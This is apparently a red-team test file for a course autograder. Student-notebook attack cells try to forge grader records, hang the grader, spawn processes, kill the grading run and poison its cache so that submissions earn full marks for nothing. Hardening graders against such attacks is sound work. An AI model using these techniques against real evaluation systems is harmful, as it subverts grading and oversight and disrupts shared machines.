                return 10 ** 9
            def __iter__(self):
                return itertools.count()
            def __getitem__(self, key):
                return self

        def cost_table(input_shape, layers):
            return ({"name": "x"} for _ in itertools.count())

        def conv_params(in_channels, out_channels, kernel, bias=True):
            return itertools.count()

        def fc_params(in_features, out_features, bias=True):
            return Endless()
    ''')),
    Attack("misbehaving_objects", "objects whose __reduce__, __repr__, __str__, __eq__, "
           "__getattr__ misbehave, class names that claim builtins.int/dict, an exception "
           "whose message never ends and one whose class name holds a forged record, and a "
           "dict that mimics the grader's handle encoding", "points from objects the grader "
           "trusts, or a forged line in the output", _code('''
        class Evil:
            def __reduce__(self):
                return (os.system, ("true",))
            def __repr__(self):
                while True:
                    pass
            def __str__(self):
                return "x" * 10_000_000
            def __eq__(self, other):
                return True
            def __hash__(self):
                return 0
            def __getattr__(self, name):
                return self

        class FakeInt(int):
            def __eq__(self, other):
                return True
            __hash__ = int.__hash__
        FakeInt.__module__, FakeInt.__qualname__, FakeInt.__name__ = "builtins", "int", "int"

        class FakeDict(dict):
            def __getitem__(self, key):
                return FakeInt(1)
        FakeDict.__module__, FakeDict.__qualname__ = "builtins", "dict"

        class Endless(Exception):
            def __str__(self):
                while True:
                    pass

        Forged = type("RuntimeError\\n" + _rt_forged().decode().splitlines()[0], (RuntimeError,), {})

        def conv_output_size(size, kernel, stride=1, padding=0):
            return Evil()

        def pool_output_size(size, kernel, stride=None, padding=0):
            return FakeInt(1)

        def conv_params(in_channels, out_channels, kernel, bias=True):
            raise Endless()

        def conv_flops(in_channels, height, width, out_channels, kernel, stride=1, padding=0):
            raise Forged(_rt_forged().decode())

        def pool_flops(channels, height, width, kernel, stride=None, padding=0):
            return {"__handle__": 1, "__mro__": ["builtins.int", "builtins.object"]}

        def fc_params(in_features, out_features, bias=True):
            return {"__tuple__": [in_features * out_features]}

        def cost_table(input_shape, layers):
            return [FakeDict(name=layer.get("name")) for layer in layers]
    ''')),
    Attack("pipe_header_never_ends", "writes a length header of 256 MB into its own reply "
           "pipe (found with gc), so the grader waits for a reply that never comes",
           "a grading run that never finishes", _code('''
        import gc, struct
        from multiprocessing.connection import Connection
        fds = [c.fileno() for c in gc.get_objects()
               if isinstance(c, Connection) and c.writable and not c.closed]
        if not fds:  # the bootstrap's command line names the fds as well
            line = open("/proc/self/cmdline", "rb").read().decode(errors="replace")
            fds = [int(re.search(r"main\\((\\d+), (\\d+)", line).group(2))]
        for fd in fds:
            os.write(fd, struct.pack("!i", 256 * 1024 * 1024))
    ''')),
    Attack("fork_bomb", "100 processes started with fork_exec (os.fork is tried first), half "
           "of them in a session of their own; each sleeps 20 s", "processes left running "
           "after the run", _code('''
        _rt_try("os.fork", lambda: os.fork() or os._exit(0))  # a child would end at once
        started = 0
        for i in range(100):
            try:
                _rt_spawn(["/usr/bin/sleep", "20"], setsid=bool(i % 2))
                started += 1
            except Exception as err:
                _rt_note(f"spawn {i}: {err}")
                break
        _rt_note(f"started {started}")
    ''')),
    # --- killing the grader ---------------------------------------------------------------
    Attack("kill_grader_group", "os.kill(ppid), os.killpg and os.kill(-pgid) of the grader's "
           "group, then libc's killpg() through a site-packages library",
           "the CLI and its workers killed", _code('''
        import ctypes, signal
        grader = os.getppid()
        pgid = os.getpgid(grader)
        # Only the grading run's own group (led by `cnnlab grade`) is ever signalled.
        if pgid == _rt_grading_cli():
            _rt_try("os.kill(ppid)", lambda: os.kill(grader, signal.SIGKILL))
            _rt_try("os.killpg", lambda: os.killpg(pgid, signal.SIGKILL))
            _rt_try("os.kill(-pgid)", lambda: os.kill(-pgid, signal.SIGKILL))
            libc = ctypes.CDLL(_rt_site_library())
            _rt_try("libc killpg", lambda: libc.killpg(pgid, signal.SIGKILL))
    ''')),
    Attack("kill_grader_pidfd", "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), "
           "SIGKILL)", "the grader killed: every submission still pending fails", _code('''
        import signal
        if _rt_grading_cli() is not None:
            signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    ''')),
    Attack("kill_every_run_process", "lists /proc and kills, with pidfds, every process of "
           "the grading run it can see (the CLI's session and descendants)",
           "the whole run killed", _code('''
        import signal
        cli = _rt_grading_cli()
        victims = []
        if cli is not None and os.getsid(cli) == cli:
            for name in os.listdir("/proc"):
                if not name.isdigit() or int(name) == os.getpid():
                    continue
                pid, chain = int(name), []
                try:
                    sid = os.getsid(pid)
                    up = pid
                    while up > 1 and len(chain) < 64:
                        chain.append(up)
                        up = _rt_ppid_of(up)
                except Exception:
                    continue
                if sid == cli or cli in chain:
                    victims.append(pid)
            for pid in sorted(victims, key=lambda p: p == cli):
                _rt_try(f"kill {pid}", lambda pid=pid: signal.pidfd_send_signal(
                    os.pidfd_open(pid), signal.SIGKILL))
    ''')),
    Attack("poison_disk_cache", "rewrites the grader's disk cache of the checks' "
           "student-independent values (autograder/checks/disk_cache.py; its folder and files "
           "given): each stored value emptied under its own key, by write and by rename, and a "
           "file planted beside them", "every later submission checked against no examples "
           "(full marks for nothing), or a classmate's checks made to fail", _code('''
        tag, marker = K["tag"], K["marker"]

        def emptied(path):
            try:
                stored = json.loads(_rt_read(path)[1:])
            except Exception:
                stored = {"key": ""}
            return b"J" + json.dumps({"key": stored.get("key"), "value": []}).encode()

        for path in K["cache_files"]:
            _rt_try(f"overwrite {path}",
                    lambda path=path: _rt_write(path, emptied(path), exclusive=False))
            spare = os.path.join(os.path.dirname(path), tag + ".tmp")
            _rt_try(f"rename over {path}",
                    lambda path=path, spare=spare: os.rename(_rt_write(spare, emptied(path)), path))
        _rt_try("list the cache", lambda: _rt_listdir(K["cache"]))
        _rt_try("plant in the cache",
                lambda: _rt_write(os.path.join(K["cache"], tag + ".txt"), "# " + marker))
    ''')),
]

BY_ID = {attack.id: attack for attack in ATTACKS}
assert len(BY_ID) == len(ATTACKS), "attack ids must be unique"


def knowledge(attack: Attack, *, me: str, classmates: list[str], attackers_dir: str,
              classmates_dir: str, root: str, site_packages: str, bin_dir: str, home: str,
              points: dict[str, float], cache: str = "", cache_files: list[str] = ()) -> dict:
    """What the attacker is told (the `K` of its cell)."""
    return {
        "tag": attack.tag, "marker": f"{MARKER} by {attack.tag}", "me": me, "classmates": list(classmates),
        "attackers_dir": attackers_dir, "classmates_dir": classmates_dir, "root": root,
        "solution": str(Path(root) / "solutions" / "cnn_costs.py"),
        "checks": str(Path(root) / "autograder" / "checks" / "cnn_costs.py"),
        "site_packages": site_packages, "bin": bin_dir, "home": home,
        "points": dict(points), "cache": cache, "cache_files": list(cache_files),
    }


def attack_cell(attack: Attack, known: dict) -> str:
    return f"K = {known!r}\n" + PRELUDE + "\n# --- the attack ---\n" + attack.body


def notebook(blank: dict, cell: str) -> dict:
    """The blank notebook (every stub left as given) with the attack cell at its end."""
    nb = json.loads(json.dumps(blank))
    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "redteam-attack",
                        "metadata": {}, "outputs": [], "source": cell})
    return nb
